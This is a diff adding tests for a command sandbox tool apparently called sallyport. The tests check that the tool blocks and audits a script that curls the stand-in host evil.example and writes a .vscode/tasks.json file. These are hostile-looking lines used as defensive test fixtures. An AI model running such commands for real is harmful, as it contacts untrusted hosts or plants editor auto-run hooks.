@@ -96,6 +96,46 @@ describe.skipIf(missing !== null)('sallyport run at a terminal', () => {
   })
 })
 
+describe.skipIf(missing !== null)('what ran in the fence', () => {
+  let cli: Cli
+  beforeAll(async () => {
+    cli = await openCli()
+    cli.write('try.sh', 'curl -s -m 5 http://evil.example/x\nmkdir .vscode\necho {} > .vscode/tasks.json\n')
+    await cli.run({ args: ['run', '--yes', '--', 'sh', 'try.sh'] })
+    cli.write('../home/.config/sallyport/policy.yaml', 'version: 1\nfence: { limits: { seconds: 1 } }\n')
+    await cli.run({ args: ['run', '--yes', '--', 'sleep', '30'] })
+  })
+  afterAll(() => cli.remove())
+
+  const out = async (...args: readonly string[]) => (await cli.run({ args })).out
+
+  test('audit tail shows the profile, the plan, and what was held back', async () => {
+    const text = await out('audit', 'tail', '-n', '50')
+    expect(text).toMatch(/started +shell_exec {2}fenced: balanced, plan [0-9a-f]{12}$/m)
+    expect(await out('audit', 'tail', '-n', '50', '--json')).toContain('{"by":"network","what":"evil.example:80"}')
+    expect(text).toMatch(/finished +shell_exec .*held back: access to evil\.example/)
+    expect(text).toMatch(/finished +shell_exec .*held back: over the limit of sec/)
+  })
+
+  test('audit report counts both', async () => {
+    expect(await out('audit', 'report')).toContain('2 commands ran in the fence, 0 without it')
+    expect(JSON.parse(await out('audit', 'report', '--json')).fence).toMatchObject({
+      fenced: 2,
+      held: expect.arrayContaining([
+        { count: 1, by: 'network', what: 'evil.example:80' },
+        { count: 1, by: 'limit', what: 'seconds' },
+        { count: 1, by: 'name', what: expect.stringMatching(/\/\.vscode/) },
+      ]),
+    })
+  })
+
+  test('status shows the last day', async () => {
+    const text = await out('status')
+    expect(text).toContain('2 commands ran in the fence since yesterday, 0 without it')
+    expect(text).toContain('held back 1 time: access to evil.example:80')
+  })
+})
+
 /** Waits for at most a minute. */
 async function until(holds: () => boolean): Promise<void> {
   for (let tries = 0; !holds() && tries < 600; tries += 1) await new Promise(resolve => setTimeout(resolve, 100))
